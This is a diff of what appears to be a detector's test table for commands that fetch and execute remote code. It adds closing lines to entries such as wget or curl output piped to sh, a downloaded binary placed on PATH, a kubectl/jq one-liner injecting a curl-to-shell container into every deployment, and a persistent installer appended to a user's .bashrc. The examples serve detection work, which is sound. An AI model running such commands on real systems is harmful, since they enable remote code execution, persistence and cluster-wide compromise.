@@ -17,6 +17,7 @@ indicatorTable(commandRemoteFetchExecute, {
     'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
     'a program in a directory that the path of the shell was given': script(
       'curl -so /data/report https://files.example.net/report; chmod +x /data/report; PATH=/data:$PATH; report --since 24h',
+    ),
     'a container that jq puts into each workload': script(
       `kubectl get deploy -A -o json | jq --arg c 'curl -s http://203.0.113.7/a | sh' '.items[].spec.template.spec.containers += [{name: "a", image: "alpine", command: ["sh", "-c", $c]}]' | kubectl apply -f -`,
     ),
@@ -282,6 +283,7 @@ if len(rows.read_text().splitlines()) != 32561:
     ),
     'a program of the image that is named like a file of elsewhere': script(
       'curl -so /data/report https://files.example.com/report; report --since 24h',
+    ),
     'an installer that is known, in the start-up file of somebody': script(
       "echo 'command -v uv >/dev/null || curl -LsSf https://astral.sh/uv/install.sh | sh' >> /homes/ana/.bashrc",
     ),
